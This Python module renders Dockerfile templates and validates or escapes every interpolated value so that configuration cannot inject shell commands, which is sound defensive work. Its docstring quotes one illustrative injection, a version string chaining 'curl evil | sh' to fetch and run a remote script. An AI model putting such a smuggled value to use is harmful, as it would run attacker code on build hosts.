"""Render the Dockerfile templates in dockerfiles/ (Jinja2, StrictUndefined).

Every value is checked before it reaches a template: a Dockerfile is a shell
script in disguise, and a "version" such as ``1.0 && curl evil | sh`` must
never become a RUN line.
"""

from __future__ import annotations

import re
from functools import cache
from importlib import resources
from pathlib import Path

import jinja2

from orchestrator.environment import BUILD_ARG_VARS
from orchestrator.errors import ConfigError
from orchestrator.models import Cell, Project
from orchestrator.plan import versions
from orchestrator.plan.interpreters import DebianInterpreter, Interpreter

# Conservative shapes for everything that is interpolated into a Dockerfile.
_IMAGE = re.compile(r"^[a-z0-9][a-z0-9._/-]*(:[A-Za-z0-9._-]+)?(@sha256:[0-9a-f]{64})?$")
_WORD = re.compile(r"^[a-z0-9][a-z0-9.+-]*$")
_CELL_ID = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]*$")
_ENV_NAME = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*$")
_DEBIAN_PACKAGE = re.compile(r"^[a-z0-9][a-z0-9+.-]+(:[a-z0-9]+)?$")
PROJECT_DIR = "/project"
_SDIST = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._+-]*\.tar\.gz$")


def templates_dir() -> Path:
    """The templates: inside the installed package, or dockerfiles/ of a checkout."""
    packaged = resources.files("orchestrator").joinpath("dockerfiles")
    if packaged.is_dir():
        return Path(str(packaged))
    return Path(__file__).resolve().parents[2] / "dockerfiles"


@cache
def _env() -> jinja2.Environment:
    return jinja2.Environment(
        loader=jinja2.FileSystemLoader(templates_dir()),
        undefined=jinja2.StrictUndefined,
        autoescape=False,  # Dockerfiles, not HTML; values are validated instead
        keep_trailing_newline=True,
        trim_blocks=True,
        lstrip_blocks=True,
    )


def _check(pattern: re.Pattern[str], value: str | None, what: str) -> str:
    if value is None or not pattern.fullmatch(value):
        raise ConfigError(f"refusing to put {value!r} into a Dockerfile: not a valid {what}")
    return value


def render_base(interpreter: Interpreter, *, rootfs_image: str | None, ca_bundle: bool) -> str:
    """The interpreter base image's Dockerfile for ``interpreter``'s family."""
    versions.python_version(interpreter.version)
    if isinstance(interpreter, DebianInterpreter):
        _check(_IMAGE, rootfs_image, "image name")
        _check(_WORD, interpreter.suite, "Debian suite")
        _check(_WORD, interpreter.package, "Debian package name")
    else:
        _check(_IMAGE, interpreter.image, "image name")
    template = _env().get_template(f"base-{interpreter.family}.Dockerfile.j2")
    return template.render(
        interpreter=interpreter,
        rootfs_image=rootfs_image,
        ca_bundle=ca_bundle,
        index_vars=BUILD_ARG_VARS,
    )


def render_cell(
    cell: Cell,
    *,
    base_image: str,
    project: Project,
    requirements: list[str],
    sdist: str | None = None,
) -> str:
    """The cell image's Dockerfile: FROM the base, the project's environment and system
    packages, the dependency set, then the project (from its tree, or from the ``sdist``
    file built on the host when its version comes from git)."""
    _check(_CELL_ID, cell.id, "cell id")
    _check(_IMAGE, base_image, "image name")
    _check(versions.INSTALL_TARGET, project.install, "install target (use '.' or '.[extra,...]')")
    for name in project.env:
        _check(_ENV_NAME, name, "environment variable name")
    for package in project.system_packages:
        _check(_DEBIAN_PACKAGE, package, "Debian package name")
    extras = project.install[1:]
    source = PROJECT_DIR
    if sdist is not None:
        source = f"/etc/oxzep7/sdist/{_check(_SDIST, sdist, 'sdist file name')}"
    return (
        _env()
        .get_template("cell.Dockerfile.j2")
        .render(
            cell=cell,
            base_image=base_image,
            build_source=source,
            extras=extras,
            sdist=sdist,
            requirements=requirements,
            env={name: env_value(value) for name, value in project.env.items()},
            system_packages=project.system_packages,
            index_vars=BUILD_ARG_VARS,
        )
    )


def env_value(value: str) -> str:
    """``value`` as a double-quoted Dockerfile word: quotes, backslashes and ``$`` (which
    the Dockerfile would expand) escaped; one printable line only."""
    if not value.isprintable():
        raise ConfigError(f"refusing to put {value!r} into a Dockerfile: not one printable line")
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$") + '"'


def cell_requirements(cell: Cell) -> list[str]:
    """The cell's pins as pip requirement lines, validated by ``packaging``."""
    try:
        return [versions.requirement(name, value) for name, value in cell.deps.items()]
    except versions.BadValue as exc:
        raise ConfigError(f"cell {cell.id}: {exc}") from None
